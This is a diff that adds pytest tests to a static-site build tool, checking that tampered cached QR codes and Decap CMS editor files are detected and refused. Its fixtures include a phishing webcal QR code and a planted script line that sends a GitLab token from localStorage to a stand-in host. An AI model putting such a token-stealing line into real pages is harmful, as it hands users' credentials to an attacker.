@@ -172,3 +172,109 @@ def test_a_running_builds_folder_is_left_alone(tmp_path):
     busy = tmp_path / f".output.tmp-{os.getppid()}"  # a live process: maybe another build right now
     busy.mkdir()
     assert clean_leftovers(tmp_path / "output") == [] and busy.is_dir()
+
+
+# ---- nothing kept in .cache/ is published unchecked --------------------------------------------------
+
+
+def run_build(root: Path, output: Path, **env: str) -> subprocess.CompletedProcess:
+    environ = {**os.environ, "PYTHONPATH": str(ROOT / "plugins"), "SOURCE_DATE_EPOCH": EPOCH, **env}
+    return subprocess.run([sys.executable, "-m", "catalogue", "--root", str(root), "build", "--output", str(output),
+                           "--settings", str(ROOT / "pelicanconf.py")], env=environ, cwd=root, capture_output=True,
+                          text=True, timeout=600)
+
+
+def test_a_planted_or_edited_cached_qr_code_is_never_published(tmp_path):
+    import segno
+
+    root = repo_with_many_pages(tmp_path / "depot", count=3)
+    cache, key = tmp_path / "cache", tmp_path / "cle"
+    env = {"CATALOGUE_CACHE_DIR": str(cache), "CATALOGUE_CACHE_KEY_FILE": str(key)}
+    first = run_build(root, tmp_path / "a", **env)
+    assert first.returncode == 0, first.stderr
+    fresh = tree_digest(tmp_path / "a")
+    cached = sorted((cache / "qr").glob("*.svg"))
+    assert len(cached) >= 5
+
+    phishing = io_svg(segno.make("webcal://autre-site.example/piege.ics", error="m"))
+    for index, path in enumerate(cached):
+        if index % 2:
+            path.write_bytes(phishing)  # a planted file, as a pull request could commit it
+        else:
+            stored = path.read_bytes()
+            path.write_bytes(stored[:65] + stored[65:].replace(b"h1", b"h2", 1))  # one module changed, seal kept
+    second = run_build(root, tmp_path / "b", **env)
+    assert second.returncode == 0, second.stderr
+    assert tree_digest(tmp_path / "b") == fresh  # every QR code re-made, the site byte-identical
+    assert all(phishing not in p.read_bytes() for p in cached)  # and the cache repaired
+
+    key.write_text("0" * 64)  # another machine's secret: its seals are not this one's
+    third = run_build(root, tmp_path / "c", **{**env, "CATALOGUE_CACHE_KEY_FILE": str(tmp_path / "autre-cle")})
+    assert third.returncode == 0 and tree_digest(tmp_path / "c") == fresh
+
+
+def io_svg(qr) -> bytes:
+    import io
+
+    buffer = io.BytesIO()
+    qr.save(buffer, kind="svg", scale=4, border=4, xmldecl=True)
+    return buffer.getvalue()
+
+
+@pytest.fixture(scope="module")
+def real_editor(tmp_path_factory) -> Path:
+    """A copy of the real Decap CMS files (fetched from the npm registry once, by `make admin`)."""
+    from catalogue import cms
+
+    try:
+        source = cms.vendor_editor()
+    except cms.EditorUnavailable as exc:
+        pytest.fail(f"éditeur en ligne indisponible : {exc}")
+    copy = tmp_path_factory.mktemp("cache") / "decap-cms" / cms.DECAP_VERSION
+    import shutil
+
+    shutil.copytree(source, copy)
+    return copy
+
+
+def admin(cache: Path, caplog) -> dict[str, bytes]:
+    from catalogue import cms
+    from catalogue.load import load_catalogue
+
+    with caplog.at_level("WARNING"):
+        return cms.admin_files(load_catalogue(ROOT), "", environ={"CATALOGUE_CACHE": str(cache)})
+
+
+@pytest.mark.parametrize("tampering", ["edited", "added", "planted"])
+def test_tampered_editor_files_are_refused_whatever_the_marker(real_editor, tmp_path, caplog, tampering):
+    import shutil
+
+    from catalogue import cms
+
+    assert "admin/decap-cms.js" in admin(real_editor.parents[1], caplog)  # the genuine files are served
+    cache = tmp_path / "cache"
+    folder = cache / "decap-cms" / cms.DECAP_VERSION
+    if tampering == "planted":  # a pull request commits a marker and its own "editor"
+        folder.mkdir(parents=True)
+        (folder / ".complete").write_text('{"integrity": "%s"}' % cms.DECAP_INTEGRITY)
+        (folder / "decap-cms.js").write_text("fetch('https://autre-site.example/?'+localStorage.getItem('gitlab-token'))")
+    else:
+        shutil.copytree(real_editor, folder)
+        if tampering == "edited":
+            with open(folder / "decap-cms.js", "a") as script:
+                script.write(";fetch('https://autre-site.example/')")
+        else:
+            (folder / "9999.decap-cms.js").write_text("alert(1)")
+    assert (folder / ".complete").is_file()
+    caplog.clear()
+    files = admin(cache, caplog)
+    assert not [path for path in files if path.endswith(".js") and path != "admin/catalogue-cms.js"] and "admin/catalogue-cms.js" not in files
+    assert "make admin" in files["admin/index.html"].decode()
+    assert any("n'ont pas l'empreinte attendue" in record.getMessage() and "relancez « make admin »" in record.getMessage()
+               for record in caplog.records), [r.getMessage() for r in caplog.records]
+
+    failing_npm = tmp_path / "npm"
+    failing_npm.write_text("#!/bin/sh\necho 'npm ERR! hors ligne' >&2\nexit 1\n")
+    failing_npm.chmod(0o755)
+    with pytest.raises(cms.EditorUnavailable, match="npm n'a pas pu télécharger"):  # `make admin` fetches it again
+        cms.vendor_editor({"CATALOGUE_CACHE": str(cache)}, npm=str(failing_npm))
